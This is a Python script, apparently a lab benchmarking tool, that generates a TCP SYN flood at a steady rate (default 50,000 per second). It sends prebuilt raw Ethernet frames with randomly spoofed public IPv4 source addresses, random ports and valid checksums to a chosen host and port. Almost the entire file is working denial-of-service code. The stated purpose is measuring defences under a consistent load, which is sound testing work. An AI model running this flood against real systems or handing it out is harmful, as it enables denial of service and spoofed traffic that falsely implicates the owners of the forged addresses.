#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A SYN flood over IPv4 from random sources, at a rate that is kept.

usage: bench_flood.py [--rate N] [--seconds N] [--frames N] DEVICE ADDRESS PORT

What is compared has to be offered the same. hping3 sends as fast as it can, or paces itself by
signals, of which some get lost as soon as the CPU is shared; here what is late is made up for, up
to 50 ms of it. Sends ready-made Ethernet frames, round and round, each with its own source address,
port and sequence number and right checksums. Ends after --seconds or at SIGTERM, and prints
how many were sent in how many seconds. It has to run on the subnet of ADDRESS.
"""
import argparse
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import time

from lab_flood6 import checksum

LATE = 0.05


def source():
    """A random address that a router would let pass: of 1.0.0.0/8 to 126.0.0.0/8."""
    while True:
        address = os.urandom(4)
        if 1 <= address[0] <= 126 and address[0] != 10:
            return address


def frame(src_mac, dst_mac, dst, port):
    src = source()
    sport, seq, ident = struct.unpack("!HIH", os.urandom(8))
    options = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02\x01\x01"  # MSS, SACK permitted
    tcp = struct.pack("!HHIIBBHHH", sport or 1, port, seq, 0, 7 << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), ident, 0, 64, socket.IPPROTO_TCP, 0)
    ip = ip[:10] + struct.pack("!H", checksum(ip + src + dst)) + src + dst
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def neighbour(device, address):
    """The link-layer address of ADDRESS, as the kernel has it after a ping."""
    subprocess.run(["ping", "-c", "1", "-W", "2", address], stdout=subprocess.DEVNULL, check=False)
    text = subprocess.run(["ip", "-4", "neighbour", "show", address, "dev", device],
                          capture_output=True, text=True, check=True).stdout
    found = re.search(r"lladdr (\S+)", text)
    if not found:
        sys.exit("bench_flood: %s does not answer on %s" % (address, device))
    return bytes.fromhex(found[1].replace(":", ""))


def flood(out, frames, rate, seconds):
    """Returns how many frames were sent, and in how many seconds."""
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    begin = now = time.monotonic()
    sent = tried = forgiven = 0
    while not ended and now - begin < seconds:
        due = int((now - begin) * rate) - forgiven
        if due - tried > rate * LATE:
            forgiven += due - tried - int(rate * LATE)
            due = tried + int(rate * LATE)
        while tried < due:
            try:
                out.send(frames[tried % len(frames)])
                sent += 1
            except OSError:  # the device's queue is full
                pass
            tried += 1
        time.sleep(0.001)
        now = time.monotonic()
    return sent, now - begin


def main():
    parser = argparse.ArgumentParser(description="SYN flood over IPv4 from random sources")
    parser.add_argument("--rate", type=float, default=50000, help="SYNs a second (default 50000)")
    parser.add_argument("--seconds", type=float, default=10, help="stop after (default 10)")
    parser.add_argument("--frames", type=int, default=16384, help="different SYNs (default 16384)")
    parser.add_argument("device")
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    args = parser.parse_args()

    dst_mac = neighbour(args.device, args.address)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((args.device, 0))
    src_mac = out.getsockname()[4]
    dst = socket.inet_aton(args.address)
    frames = [frame(src_mac, dst_mac, dst, args.port) for _ in range(args.frames)]
    print("flooding", flush=True)
    print("sent %d SYNs in %.3f s" % flood(out, frames, args.rate, args.seconds), flush=True)


if __name__ == "__main__":
    main()
